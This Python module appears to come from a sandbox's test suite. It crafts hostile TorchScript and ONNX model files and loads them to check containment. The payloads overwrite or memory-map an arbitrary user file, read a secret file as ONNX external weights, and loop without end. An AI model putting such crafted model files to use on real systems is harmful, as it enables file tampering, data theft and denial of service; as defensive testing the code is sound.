"""Attacks by model files that are opened without any scan, as if the scan had missed them: only the sandbox is left."""

import os
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

from worker.sandbox.attacks.bait import Bait

if TYPE_CHECKING:
    import onnx

Attack = Callable[[Bait], object]


def import_libraries() -> None:
    """Import what reads models."""
    import onnx  # noqa: F401, PLC0415
    import onnxruntime  # noqa: F401, PLC0415
    import torch  # noqa: F401, PLC0415


def run_torchscript(bait: Bait, body: str) -> None:
    """Save a scripted module whose loading runs `body`, and load it. PATH stands for the user's file."""
    import torch  # noqa: PLC0415 - only the attacks by models pay for it

    source = Path("hostile.py")
    lines = body.replace("PATH", repr(bait.secret)).splitlines()
    indented = "\n".join(f"        {line}" for line in lines)
    source.write_text(
        "import torch\n\nclass Hostile(torch.nn.Module):\n"
        "    def forward(self, x: torch.Tensor) -> torch.Tensor:\n"
        f"{indented}\n        return x\n"
    )
    names: dict[str, type[torch.nn.Module]] = {}
    exec(compile(source.read_text(), str(source.resolve()), "exec"), names)  # noqa: S102 - an attack written by us
    torch.jit.script(names["Hostile"]()).save("hostile.pt")
    torch.jit.load("hostile.pt")(torch.zeros(2))


def save_over_a_file(bait: Bait) -> None:
    """aten::save writes any path that a TorchScript program names, and where it cannot, says nothing."""
    run_torchscript(bait, "torch.save(x, PATH)")
    message = "aten::save returned; whether it wrote is seen from outside"
    raise OSError(message)


def map_a_file(bait: Bait) -> None:
    """aten::from_file maps any path, and writes it when shared."""
    run_torchscript(bait, "x = torch.from_file(PATH, shared=True, size=4, dtype=torch.uint8).float()")


def loop_for_ever(bait: Bait) -> None:
    """A TorchScript program that does not end."""
    run_torchscript(bait, "while bool(x.sum() < 1.0):\n    x = x * 1.0")


def read_external_data(bait: Bait) -> None:
    """An ONNX file whose weights are said to stand in the user's file."""
    import onnx  # noqa: PLC0415

    weight = onnx.TensorProto(name="w", data_type=onnx.TensorProto.UINT8, dims=[4], data_location=onnx.TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value=os.path.relpath(bait.secret))
    model = _make_model([onnx.helper.make_node("Cast", ["w"], ["y"], to=1)], weight)
    onnx.save(model, "hostile.onnx")
    _run_onnx("hostile.onnx")


def loop_in_onnx(_bait: Bait) -> None:
    """An ONNX Loop with 2**62 rounds."""
    import onnx  # noqa: PLC0415

    info = onnx.helper.make_tensor_value_info
    body = onnx.helper.make_graph(
        [onnx.helper.make_node("Identity", ["going"], ["goes"]), onnx.helper.make_node("Identity", ["v"], ["u"])],
        "body",
        [info("round", 7, []), info("going", 9, []), info("v", 1, [1])],
        [info("goes", 9, []), info("u", 1, [1])],
    )
    rounds = onnx.helper.make_tensor("rounds", 7, [], [2**62])
    yes = onnx.helper.make_tensor("yes", 9, [], [True])
    start = onnx.helper.make_tensor("start", 1, [1], [1.0])
    loop = onnx.helper.make_node("Loop", ["rounds", "yes", "start"], ["y"], body=body)
    onnx.save(_make_model([loop], rounds, yes, start), "hostile.onnx")
    _run_onnx("hostile.onnx")


def _make_model(nodes: "list[onnx.NodeProto]", *initializers: "onnx.TensorProto") -> "onnx.ModelProto":
    import onnx  # noqa: PLC0415

    output = onnx.helper.make_tensor_value_info("y", 1, None)
    graph = onnx.helper.make_graph(nodes, "hostile", [], [output], initializer=initializers)
    return onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17)], ir_version=8)


def _run_onnx(path: str) -> None:
    import onnxruntime  # noqa: PLC0415

    onnxruntime.InferenceSession(path).run(None, {})


MODELS: dict[str, Attack] = {
    "TorchScript that writes a file": save_over_a_file,
    "TorchScript that maps a file": map_a_file,
    "TorchScript without an end": loop_for_ever,
    "ONNX with another's file as weights": read_external_data,
    "ONNX without an end": loop_in_onnx,
}
